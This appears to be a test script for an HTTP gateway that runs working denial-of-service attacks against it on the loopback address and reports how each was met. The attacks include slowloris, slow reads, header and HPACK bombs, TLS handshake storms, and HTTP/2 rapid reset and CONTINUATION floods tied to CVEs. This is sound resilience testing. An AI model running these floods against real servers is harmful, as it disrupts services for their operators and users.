#!/usr/bin/env python3
"""Clients that mean harm: each attack goes on against a gateway until its time is over, and tells how it was met.

    Tests/Clients/attacks.py --http 8080 --https 8443 --seconds 20            all of them side by side
    Tests/Clients/attacks.py --http 8080 --seconds 20 slowloris rapid-reset   only these

HTTP/2 goes to --http with prior knowledge, or to --https when --http2 says so. Prints a JSON object: for each attack
how many connections it opened and how they ended: by a status, by a GOAWAY with its code, closed, reset, refused, or
`stalled` when the gateway just stopped reading. Attack nothing but what is your own.
"""

import argparse
import collections
import dataclasses
import itertools
import json
import random
import socket
import ssl
import struct
import sys
import threading
import time

import frames

NOTHING_YET = (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError)


@dataclasses.dataclass
class Target:
    """The ports of a gateway on the loopback address.

    `large` is the path of an answer of a megabyte or more, `upload` of one that awaits the request's body.
    """

    http: int
    https: int | None = None
    http2_in_tls: bool = False
    large: str = "/large"
    upload: str = "/upload"


class Connection:
    """An attacker's connection, and how it ended (`end`, `None` while it is open)."""

    _numbers = itertools.count()
    _context = ssl.create_default_context()
    _context.check_hostname = False
    _context.verify_mode = ssl.CERT_NONE
    _context.set_alpn_protocols(["h2"])

    def __init__(self, port, in_tls=False, receive_buffer=None):
        self.socket = socket.socket()
        if receive_buffer:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.socket.settimeout(3)
        # Many addresses, so that a limit by address does not spare the gateway everything else.
        self.socket.bind((f"127.2.{random.randrange(250)}.{next(self._numbers) % 250 + 1}", 0))
        self.socket.connect(("127.0.0.1", port))
        if in_tls:
            self.socket = self._context.wrap_socket(self.socket)
        self.end = None
        self._unread = b""

    def send(self, data):
        """Sends everything, or notes how the connection ended."""
        try:
            self.socket.sendall(data)
        except TimeoutError:
            self.end = "stalled"
        except OSError:
            self.look(0.2)
            self.end = self.end or "reset"

    def look(self, patience=0.0, most=65_536):
        """Reads what has come, and notes how the connection ended if it did."""
        self.socket.settimeout(patience)
        try:
            while self.end is None and (data := self.socket.recv(most)):
                self._take(data)
                if most < 65_536:
                    return
            if self.end is None:
                self.end = "closed"
        except (TimeoutError, *NOTHING_YET):
            pass
        except OSError:
            self.end = "reset"
        finally:
            self.socket.settimeout(3)

    def _take(self, data):
        """Looks for what the gateway says before it ends a connection."""
        self._unread += data
        if self._unread.startswith(b"HTTP/"):
            self._unread = self._unread[:12]
            if len(self._unread) == 12 and self._unread.startswith(b"HTTP/1.1 4"):
                self.end = self._unread[9:].decode()
        else:
            read, self._unread = frames.parse(self._unread)
            self.end = next((f"GOAWAY {frames.error(frame)}" for frame in read if frame.kind == frames.GOAWAY), None)

    def close(self, by_reset=False):
        if by_reset:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        self.socket.close()


# Ways to attack


def hold(open_one, until, count, drip=b"", every=1.0, read=65_536):
    """So many connections at once, each sent a few bytes now and then; those that the gateway ends are opened anew.

    At most `read` bytes are taken each time.
    """
    met, held = collections.Counter(), []
    while time.monotonic() < until:
        while len(held) < count and time.monotonic() < until:
            if (connection := attempt(open_one, met)) is None:
                break
            held.append(connection)
        time.sleep(max(0, min(every, until - time.monotonic())))
        for connection in held:
            connection.look(most=read)
            if drip and connection.end is None:
                connection.send(drip)
            if connection.end:
                met[connection.end] += 1
                connection.close()
        held = [connection for connection in held if connection.end is None]
    for connection in held:
        met["held"] += 1
        connection.close()
    return met


def flood(open_one, until, block, blocks, pause=0.2, reads=True):
    """One connection after the other, each sent a block so many times or until the gateway ends it.

    What is tried is what a connection can do, and not what a flood of connections does, which any load does.
    """
    met = collections.Counter()
    while time.monotonic() < until:
        if connection := attempt(open_one, met):
            for number in range(blocks):
                connection.send(block(number) if callable(block) else block)
                if reads and connection.end is None:
                    connection.look()
                if connection.end or time.monotonic() > until:
                    break
            else:
                connection.look(0.2)
            met[connection.end or "held"] += 1
            connection.close()
        time.sleep(pause)
    return met


def attempt(open_one, met):
    """A new connection, or `None`; either is counted."""
    try:
        connection = open_one()
    except OSError as error:
        met["refused" if isinstance(error, ConnectionError) else "not opened"] += 1
        time.sleep(0.1)
        return None
    met["opened"] += 1
    return connection


def http1(target, first=b"", **options):
    """Opens HTTP/1.1 connections that begin with these bytes."""

    def open_one():
        connection = Connection(target.http, **options)
        connection.send(first)
        return connection

    return open_one


def http2(target, first=b"", settings=(), **options):
    """Opens HTTP/2 connections that begin with the preface, the settings and these frames."""

    def open_one():
        connection = Connection(target.https if target.http2_in_tls else target.http, target.http2_in_tls, **options)
        connection.send(frames.PREFACE + frames.settings(*settings) + first)
        return connection

    return open_one


# HTTP/1.1


def slowloris(target, until):
    """Heads that never end, a field a second."""
    return hold(http1(target, b"GET / HTTP/1.1\r\nHost: bench\r\n"), until, 200, b"X-A: b\r\n")


def slow_post(target, until):
    """Bodies that come byte by byte."""
    first = f"POST {target.upload} HTTP/1.1\r\nHost: bench\r\nContent-Length: 1000000\r\n\r\n".encode()
    return hold(http1(target, first), until, 60, b"x")


def slow_read(target, until):
    """Large answers that are hardly read."""
    first = f"GET {target.large} HTTP/1.1\r\nHost: bench\r\n\r\n".encode()
    return hold(http1(target, first, receive_buffer=4_096), until, 30, read=1)


def pipelining(target, until):
    """Requests for large answers without end, and no answer read."""
    block = f"GET {target.large} HTTP/1.1\r\nHost: bench\r\n\r\n".encode() * 500
    return flood(http1(target, receive_buffer=4_096), until, block, 1_000, pause=0.5, reads=False)


def half_open(target, until):
    """Connections that never send anything."""
    return hold(http1(target), until, 200)


def resets(target, until):
    """Requests whose connection is reset at once."""
    met = collections.Counter()
    while time.monotonic() < until:
        for number in range(20):
            request = b"GET / HTTP/1.1\r\nHost: bench\r\n\r\n" if number % 2 else b"POST / HTTP/1.1\r\nHost: b"
            if connection := attempt(http1(target, request), met):
                connection.close(by_reset=True)
        time.sleep(0.2)
    return met


def huge_heads(target, until):
    """One field of a megabyte."""
    first = b"GET / HTTP/1.1\r\nHost: bench\r\nX-Huge: "
    return flood(http1(target, first), until, b"x" * 16_384, 64)


def header_bombs(target, until):
    """A hundred thousand fields."""
    return flood(http1(target, b"GET / HTTP/1.1\r\nHost: bench\r\n"), until, b"a:\r\n" * 1_000, 100)


def chunk_extensions(target, until):
    """Chunks of a byte, each with an extension of a kilobyte."""
    first = f"POST {target.upload} HTTP/1.1\r\nHost: bench\r\nTransfer-Encoding: chunked\r\n\r\n".encode()
    return flood(http1(target, first), until, b"1;" + b"e" * 1_024 + b"\r\nx\r\n", 1_000)


# TLS


def abandoned_handshakes(target, until):
    """ClientHellos after which nothing comes, or half of one, byte by byte."""
    hello = client_hello()
    if target.https is None:
        return collections.Counter()
    turns = itertools.cycle([hello, hello[: len(hello) // 2], b"\x16\x03\x01\x40\x00\x01"])

    def open_one():
        connection = Connection(target.https)
        connection.send(next(turns))
        return connection

    return hold(open_one, until, 100)


def handshake_storm(target, until):
    """Handshakes that are broken off as soon as the gateway has done its part."""
    met = collections.Counter()
    if target.https is None:
        return met
    hello = client_hello()
    while time.monotonic() < until:
        if connection := attempt(lambda: Connection(target.https), met):
            connection.send(hello)
            connection.look(0.2, most=1_024)
            connection.close(by_reset=True)
        time.sleep(0.05)
    return met


def client_hello():
    """What Python's own client begins a handshake with."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = ssl.create_default_context().wrap_bio(incoming, outgoing, server_hostname="localhost")
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


# HTTP/2


def rapid_reset(target, until):
    """Streams that are cancelled as soon as they are open (CVE-2023-44487)."""

    def block(number):
        ids = range(1 + 200 * number, 1 + 200 * (number + 1), 2)
        return b"".join(frames.get(stream) + frames.rst_stream(stream) for stream in ids)

    return flood(http2(target), until, block, 1_000)


def made_you_reset(target, until):
    """Streams that the gateway has to reset, since their window is moved by nothing (CVE-2025-8671)."""

    def block(number):
        ids = range(1 + 200 * number, 1 + 200 * (number + 1), 2)
        return b"".join(frames.get(stream) + frames.window_update(stream, 0) for stream in ids)

    return flood(http2(target), until, block, 1_000)


def continuation_flood(target, until):
    """A field section that never ends (CVE-2024-27316)."""
    first = frames.frame(frames.HEADERS, 0, 1, frames.field_section())
    block = frames.frame(frames.CONTINUATION, 0, 1, frames.field("x-a", "b" * 100) * 100)
    return flood(http2(target, first), until, block, 2_000)


def empty_continuations(target, until):
    """CONTINUATION frames without a byte."""
    first = frames.frame(frames.HEADERS, 0, 1, frames.field_section())
    return flood(http2(target, first), until, frames.frame(frames.CONTINUATION, 0, 1) * 500, 1_000)


def hpack_bomb(target, until):
    """A large field in the dynamic table, referred to ten thousand times."""
    bomb = frames.field_section() + frames.field("x-bomb", "b" * 3_900, indexed=True) + b"\xbe" * 10_000
    block = frames.frame(frames.HEADERS, frames.END_STREAM | frames.END_HEADERS, 1, bomb)
    return flood(http2(target), until, block, 1)


def ping_flood(target, until):
    """PINGs whose answers are never read (CVE-2019-9512)."""
    block = frames.frame(frames.PING, 0, 0, b"12345678") * 1_000
    return flood(http2(target, receive_buffer=4_096), until, block, 1_000, reads=False)


def settings_flood(target, until):
    """SETTINGS whose acknowledgements are never read (CVE-2019-9515)."""
    return flood(http2(target, receive_buffer=4_096), until, frames.settings() * 1_000, 1_000, reads=False)


def empty_data(target, until):
    """DATA frames without a byte, on a stream that does not end (CVE-2019-9518)."""
    first = frames.post(1, target.upload)
    return flood(http2(target, first), until, frames.frame(frames.DATA, 0, 1) * 500, 1_000)


def stalled_windows(target, until):
    """Large answers on every stream, and a window that never opens (CVE-2019-9517)."""
    first = b"".join(frames.get(stream, target.large) for stream in range(1, 200, 2))
    return hold(http2(target, first, settings=[(frames.INITIAL_WINDOW_SIZE, 0)]), until, 1)


def trickled_windows(target, until):
    """Large answers, read a byte at a time."""
    first = b"".join(frames.get(stream, target.large) for stream in range(1, 40, 2))
    drip = b"".join(frames.window_update(stream, 1) for stream in range(1, 40, 2))
    return hold(http2(target, first, settings=[(frames.INITIAL_WINDOW_SIZE, 0)]), until, 2, drip)


ATTACKS = {
    attack.__name__.replace("_", "-"): attack
    for attack in [
        slowloris, slow_post, slow_read, pipelining, half_open, resets, huge_heads, header_bombs, chunk_extensions,
        abandoned_handshakes, handshake_storm,
        rapid_reset, made_you_reset, continuation_flood, empty_continuations, hpack_bomb, ping_flood, settings_flood,
        empty_data, stalled_windows, trickled_windows,
    ]
}  # fmt: skip


def run(names, target, seconds):
    """Runs the attacks side by side, and tells how each was met."""
    until, met = time.monotonic() + seconds, {}
    threads = [
        threading.Thread(target=lambda name=name: met.update({name: ATTACKS[name](target, until)})) for name in names
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return {name: dict(sorted(met[name].items())) for name in names if name in met}


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--http", type=int, required=True, metavar="PORT")
    parser.add_argument("--https", type=int, metavar="PORT")
    parser.add_argument("--http2", choices=["cleartext", "tls"], default="cleartext", help="how HTTP/2 is spoken")
    parser.add_argument("--large", default="/large", help="the path of a large answer (/large)")
    parser.add_argument("--upload", default="/upload", help="a path that is answered when the body is whole (/upload)")
    parser.add_argument("--seconds", type=float, default=20)
    parser.add_argument("attacks", nargs="*", metavar="attack", help="one of " + ", ".join(ATTACKS))
    options = parser.parse_args()
    if unknown := set(options.attacks) - set(ATTACKS):
        parser.error(f"unknown attack: {', '.join(unknown)}")
    target = Target(options.http, options.https, options.http2 == "tls", options.large, options.upload)
    json.dump(run(options.attacks or list(ATTACKS), target, options.seconds), sys.stdout, indent=2)
    print()


if __name__ == "__main__":
    main()
